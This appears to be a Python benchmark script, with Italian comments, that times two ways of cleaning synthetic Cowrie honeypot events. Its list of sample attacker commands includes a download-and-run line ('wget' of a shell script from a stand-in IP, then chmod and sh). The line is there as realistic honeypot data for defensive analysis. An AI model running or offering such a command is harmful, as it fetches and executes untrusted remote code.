@@ -0,0 +1,122 @@
+"""
+MICRO-BENCHMARK: pulizia di un singolo evento Cowrie
+
+confronta il vecchio percorso (scansione lineare di Event, catena di is_*, _convert_decimals ricorsivo)
+con la tabella di dispatch EVENT_DISPATCH usata da ZenodoCleaner._clean_event.
+Gli eventi sono sintetici ma con la stessa distribuzione di eventid di una giornata Cowrie tipica.
+
+uso: python Benchmarks/bench_event_dispatch.py [numero_eventi]
+"""
+import random
+import sys
+import time
+from pathlib import Path
+
+# permette di lanciare lo script direttamente da riga di comando
+_ROOT = Path(__file__).resolve().parent.parent
+sys.path[:0] = [str(_ROOT)]
+
+import Zenodo.ZenodoDataReader as ZDR
+from Zenodo.ZenodoCleaner import _clean_event
+
+# (eventid, peso) : più della metà degli eventi reali viene scartata
+_EVENT_MIX = [
+    ("cowrie.session.connect", 12), ("cowrie.client.kex", 12), ("cowrie.session.closed", 12),
+    ("cowrie.client.version", 10), ("cowrie.session.params", 2), ("cowrie.log.closed", 2),
+    ("cowrie.login.failed", 25), ("cowrie.login.success", 4),
+    ("cowrie.command.input", 10), ("cowrie.command.failed", 3), ("cowrie.command.success", 3),
+    ("cowrie.direct-tcpip.request", 3), ("cowrie.direct-tcpip.data", 2),
+]
+_COMMANDS = ["uname -a", "cat /proc/cpuinfo | grep name | wc -l", "cd /tmp; wget http://1.2.3.4/x.sh; chmod +x x.sh; sh x.sh", "ls -la", "CMD: free -m"]
+
+
+def synthetic_events(n_events: int, seed: int = 42) -> list[dict]:
+    rnd = random.Random(seed)
+    eventids = [eventid for eventid, _ in _EVENT_MIX]
+    weights = [weight for _, weight in _EVENT_MIX]
+    events = []
+    for i, eventid in enumerate(rnd.choices(eventids, weights, k=n_events)):
+        event = {
+            "eventid": eventid,
+            "timestamp": f"2019-05-18T{(i // 3600) % 24:02d}:{(i // 60) % 60:02d}:{i % 60:02d}.{i % 1000000:06d}Z",
+            "session": f"{i // 20:012x}",
+            "src_ip": "192.0.2.1",
+            "sensor": "cyberlab",
+            "duration": 1.5, # il parser legge i numeri direttamente come float
+        }
+        if eventid.startswith("cowrie.login"):
+            event["username"] = rnd.choice(["root", "admin", "ubnt"])
+            event["password"] = rnd.choice(["123456", "admin", 1234.0])
+        elif eventid.startswith("cowrie.command"):
+            event["message"] = rnd.choice(_COMMANDS)
+        elif eventid == "cowrie.direct-tcpip.data":
+            event["data"] = rnd.choice(["b'\\\\x16\\\\x03\\\\x01\\\\x02\\\\x00'", "b'GET / HTTP/1.1\\\\r\\\\nHost: x'"])
+        elif eventid == "cowrie.client.kex":
+            event["kexAlgs"] = ["curve25519-sha256", "diffie-hellman-group14-sha1"]
+        events.append(event)
+    return events
+
+
+"""
+//////////////////////////////////////////////////VECCHIO PERCORSO (riferimento)/////////////////////////////////////
+"""
+
+def _legacy_get_status(event_id: str) -> int:
+    for e in ZDR.Event:
+        if event_id == e.value:
+            return ZDR.Status[e.name].value
+    return ZDR.Status.IGNORED.value
+
+def _legacy_convert_decimals(obj):
+    if isinstance(obj, dict):
+        return {k: _legacy_convert_decimals(v) for k, v in obj.items()}
+    elif isinstance(obj, list):
+        return [_legacy_convert_decimals(i) for i in obj]
+    elif type(obj).__name__ == "Decimal":
+        return float(obj)
+    else:
+        return obj
+
+def _legacy_clean_event(e: dict) -> dict | None:
+    eventid = e.get(ZDR.Useful_Cowrie_Attr.EVENTID.value)
+    if not eventid:
+        return None
+    status = _legacy_get_status(eventid)
+    if not ZDR.status_is_interesting(status):
+        return None
+    cleaned = {
+        ZDR.Cleaned_Attr.STATUS.value: status,
+        ZDR.Cleaned_Attr.TIME.value: e.get(ZDR.Useful_Cowrie_Attr.TIME.value)
+    }
+    specific_data = ZDR.get_interesting_data_by_status(status, e)
+    if specific_data:
+        cleaned.update(specific_data)
+    return _legacy_convert_decimals(cleaned)
+
+
+def _events_per_second(clean_function, events: list[dict], repeat: int = 3) -> float:
+    best = float("inf")
+    for _ in range(repeat):
+        start = time.perf_counter()
+        for e in events:
+            clean_function(e)
+        best = min(best, time.perf_counter() - start)
+    return len(events) / best
+
+
+def run(n_events: int = 500_000):
+    events = synthetic_events(n_events)
+
+    # le due implementazioni devono produrre gli stessi eventi puliti
+    assert [_legacy_clean_event(e) for e in events[:20000]] == [_clean_event(e) for e in events[:20000]]
+
+    before = _events_per_second(_legacy_clean_event, events)
+    after = _events_per_second(_clean_event, events)
+    print(f"events: {n_events}")
+    print(f"before (linear scan) : {before:,.0f} events/s")
+    print(f"after  (dispatch)    : {after:,.0f} events/s")
+    print(f"speedup              : {after / before:.2f}x")
+
+
+if __name__ == "__main__":
+    run(int(sys.argv[1]) if len(sys.argv) > 1 else 500_000)